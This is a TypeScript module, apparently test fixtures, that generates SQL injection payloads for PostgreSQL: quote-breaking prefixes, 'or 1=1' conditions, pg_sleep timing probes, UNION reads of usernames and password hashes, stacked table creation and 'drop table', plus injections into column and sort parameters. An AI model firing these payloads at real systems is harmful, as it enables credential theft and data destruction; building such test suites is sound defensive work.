/** How a payload gets out of the place that its text is put into. */
const exits = ['1', "'", '"', "')", '1)', "'))", "\\'", "1'::text", '$1', "''", "E'\\''", '%27', '\uFF07']

const ends = ['', '--', '/*', ';--']

const conditions = ['or 1=1', "or 'a'='a'", 'and 1=2', "and 'a'='b"]

const pauses = [
  '; select pg_sleep(5)',
  '|| pg_sleep(5)',
  'and 1=(select 1 from pg_sleep(5))',
  'or (select pg_sleep(5)) is null',
]

const unions = [
  'union select null',
  'union all select version(), null',
  'union select username, password_hash from users',
  '; create table injected (a int)',
]

const every = (middles: readonly string[]): string[] =>
  exits.flatMap((exit) => middles.flatMap((middle) => ends.map((end) => `${exit} ${middle} ${end}`.trim())))

/** Payloads by what they would do: answer otherwise, take five seconds, read or make another table. */
export const sqlPayloads = { boolean: every(conditions), time: every(pauses), union: every(unions) }

/** What stands where a column, a direction, a language or a number of a page is named. */
export const namePayloads = [
  'id;select 1',
  'id,(select 1)',
  'case when 1=1 then id end',
  'asc;drop table injected',
  '(select pg_sleep(5))',
  '-id,name;--',
  "es'--",
  'es/**/or/**/1=1',
  '1e9',
  '0x1F',
  '1 limit 1 offset 1',
  '1\u0000',
]
